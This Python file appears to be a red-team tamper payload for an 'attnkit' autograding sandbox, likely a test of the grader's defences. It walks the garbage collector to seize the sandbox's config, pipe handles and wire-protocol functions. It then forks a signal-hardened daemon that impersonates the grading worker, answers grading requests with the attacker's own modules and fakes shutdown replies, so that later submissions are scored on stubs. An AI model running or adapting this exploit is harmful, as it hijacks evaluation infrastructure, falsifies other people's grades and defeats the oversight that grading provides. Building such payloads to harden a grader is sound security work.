"""[attnkit-tamper] hijack_gc -- family (b): take over the warm sandbox through the garbage collector.

Append to the first stage module graded (base: the solution of s01_attention_scores); the
attacker's submission is the reference solutions with this payload on s01.

Same goal as hijack_frames, without looking at a single stack frame: ``gc.get_objects()`` hands
over every container object of the worker, among them

* the sandbox's config dict (keys ``requests_fd``/``replies_fd``, ``submission``...),
* the "open" request headers still referenced by the serving code (``{"cmd": "open", "token",
  "module"}``): tokens the grader may wait for in "ended" (best effort: a dict holding only
  strings can be untracked by gc; the daemon does not need them, see "leaving" below),
* the functions of the wire format (``read_message``/``write_message``/``encode``/``decode``, their
  ``__globals__`` is sandbox_child's namespace) and the adapter module (``OPS``,
  ``load_stage_module``).

With those it forks the same impersonating ``setsid`` daemon (signals ignored and blocked): "op"
is answered with the attacker's own correct modules, "close" -> "leaving" (the grader then drops
the worker and never sends "exit"), "exit" -> "ended" for every token it knows, "reset" ->
"reset". The worker keeps the zygote blocked in ``waitpid`` by never returning from the import.
Both exit by themselves ~120 s later.

Old design (``attnkit grade``, warm zygote): later submissions on that grading worker are graded
on the attacker's modules (stubs get full marks). Outside the sandbox it does nothing.
"""


def _atk_hijack_gc(own_module):
    import gc
    import os
    import signal
    import sys
    import time
    import types
    import warnings

    if getattr(sys, "_atk_hijacked", False):
        return
    config, wire, adapters, opened = None, None, None, []
    warnings.simplefilter("ignore")  # (isinstance() on some of torch's deprecated objects warns)
    for obj in gc.get_objects():
        try:
            if type(obj) is dict:
                if "submission" in obj and ("requests_fd" in obj or "confined" in obj):
                    config = obj  # a worker's config (its pipes in it, or the module's constants)
                elif obj.get("cmd", None).__class__ is str and obj["cmd"] == "open" and "token" in obj:
                    opened.append(obj)  # (best effort: a dict of strings only may be untracked by gc)
            elif isinstance(obj, types.FunctionType) and obj.__name__ == "write_message":
                if "read_message" in obj.__globals__ and "encode" in obj.__globals__:
                    wire = obj.__globals__
            elif isinstance(obj, types.ModuleType) and "OPS" in vars(obj) and "load_stage_module" in vars(obj):
                adapters = obj  # (vars, not hasattr: a lazy module's __getattr__ would import things)
        except Exception:
            continue
    if config is None or wire is None or adapters is None:
        return  # not inside the sandbox's worker: behave
    sys._atk_hijacked = True
    deadline = time.monotonic() + 120.0
    requests = config.get("requests_fd", wire.get("REQUESTS"))
    replies = config.get("replies_fd", wire.get("REPLIES"))
    cut = '"""' + "[attnkit-tamper]"
    cache = f"/dev/shm/.atk-hijack-gc-{os.getpid()}"
    os.makedirs(cache, mode=0o700, exist_ok=True)
    for name in os.listdir(config["submission"]):
        if name.startswith("s") and name.endswith(".py"):
            with open(os.path.join(config["submission"], name)) as handle:
                text = handle.read()
            with open(os.path.join(cache, name), "w") as handle:
                handle.write(text.split(cut)[0] if cut in text else text)
    randomness = wire["random_states"]()
    tokens = {h["token"]: h.get("module") for h in opened}
    current = [own_module]  # the stage last opened (operations may carry tokens of their own)
    pending_workers = set(tokens)  # one of them is the worker the grader will say "exit" to

    def serve_forever():
        import select

        workers = set(pending_workers)
        loaded = {}
        while time.monotonic() < deadline:
            ready, _, _ = select.select([requests], [], [], 1.0)
            if not ready:
                continue
            message = wire["read_message"](requests)
            if message is None:
                return
            header, blobs = message
            cmd, token = header.get("cmd"), header.get("token")
            if cmd == "open":
                tokens[token] = header.get("module")
                current[0] = header.get("module")
                if not workers:
                    workers.add(token)
                loaded.pop(header.get("module"), None)
            elif cmd == "close":
                # "leaving": the grader then forgets the worker and never sends "exit", so no
                # worker token is needed at all (gc may not show the "open" headers).
                wire["write_message"](replies, {"kind": "leaving", "token": token, "changed": []})
                workers.clear()
            elif cmd == "exit":
                for worker in sorted(workers):  # the grader ignores the ones it does not wait for
                    wire["write_message"](replies, {"kind": "ended", "token": worker, "status": 0})
                workers.clear()
            elif cmd == "reset":
                wire["write_message"](replies, {"kind": "reset", "token": token})
                workers.clear()
            elif cmd == "op":
                module = tokens.get(token) or current[0]
                out = []
                try:
                    if module not in loaded:
                        wire["restore_random_states"](randomness)
                        loaded[module] = adapters.load_stage_module(cache, module)
                    kwargs = wire["decode"](header["kwargs"], blobs)
                    reply = {"kind": "result", "value": wire["encode"](
                        adapters.OPS[header["op"]](loaded[module], **kwargs), out)}
                except adapters.SubmissionError as exc:
                    out, reply = [], {"kind": "submission_error", "message": str(exc)}
                except Exception as exc:
                    out, reply = [], {"kind": "exception", "type": type(exc).__name__, "message": str(exc),
                                      "memory": False, "traceback": ""}
                reply["token"] = token
                wire["write_message"](replies, reply, out)

    def harden():
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE, signal.SIGQUIT,
                       signal.SIGUSR1, signal.SIGUSR2, signal.SIGALRM):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.valid_signals()) - {signal.SIGKILL, signal.SIGSTOP})

    sys.stdout.flush()
    sys.stderr.flush()
    first = os.fork()
    if first == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                harden()
                try:
                    serve_forever()
                finally:
                    os._exit(0)
        finally:
            os._exit(0)
    os.waitpid(first, 0)
    harden()
    while time.monotonic() < deadline:
        time.sleep(1.0)
    os._exit(0)


_atk_hijack_gc(__name__)
